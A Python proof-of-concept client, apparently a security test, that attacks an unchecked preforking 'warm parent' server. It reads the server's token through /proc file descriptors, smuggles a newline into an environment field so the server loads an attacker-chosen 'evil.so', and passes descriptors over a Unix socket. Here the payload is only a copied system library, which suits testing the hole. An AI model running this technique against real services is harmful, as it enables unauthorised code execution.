"""A client of a warm parent that checks nothing: asks for the program, and prints each answer.

Arguments: the socket, and how to send the request: `send`, `fork` (another process sends it)
or `guess` (the token is not read). The request names a library to be loaded.
"""

import os
import shutil
import socket
import struct
import sys

path, how = sys.argv[1:]
with open("/proc/self/maps") as file:
    mapped = {line.split()[-1] for line in file if ".so" in line}
known = [each for each in sorted(mapped) if "libm" in each or "libz" in each]
evil, driver = os.path.abspath("evil.so"), os.path.abspath("libcuda.so.1")
for each in (evil, driver):
    shutil.copy(known[0], each)

connection = socket.socket(socket.AF_UNIX)
connection.connect(path)
_, child, _, pipe = connection.recv(100).decode().split()
token = b"0" * 32
try:
    if how != "guess":
        with open("/proc/%s/fd/%s" % (child, pipe), "rb") as file:
            token = file.read()
except OSError:
    pass

arguments = [sys.executable, "program.py"]
environment = [name + b"=" + value for name, value in os.environb.items()]
environment.append(("PREHEAT_AHEAD=0\n%s\n%s\n/x" % (evil, driver)).encode())
fields = [b"start", token, b"0 18 2", b"", b"", b"0 1 2"]
for texts in (list(map(os.fsencode, arguments)), environment):
    fields += [b"%d" % len(texts)] + texts
data = b"".join(field + b"\0" for field in fields)
data = struct.pack("<I", len(data)) + data
rights = struct.pack("4i", os.open(".", os.O_RDONLY), 0, 1, 2)


def send():
    kind = (socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)
    assert connection.sendmsg([data], [kind]) == len(data)


if how == "fork":
    if os.fork() == 0:
        send()
        os._exit(0)
    os.wait()
else:
    send()
for line in connection.makefile():
    print(line, end="", flush=True)
    if line == "ready\n":
        connection.send(b"g")
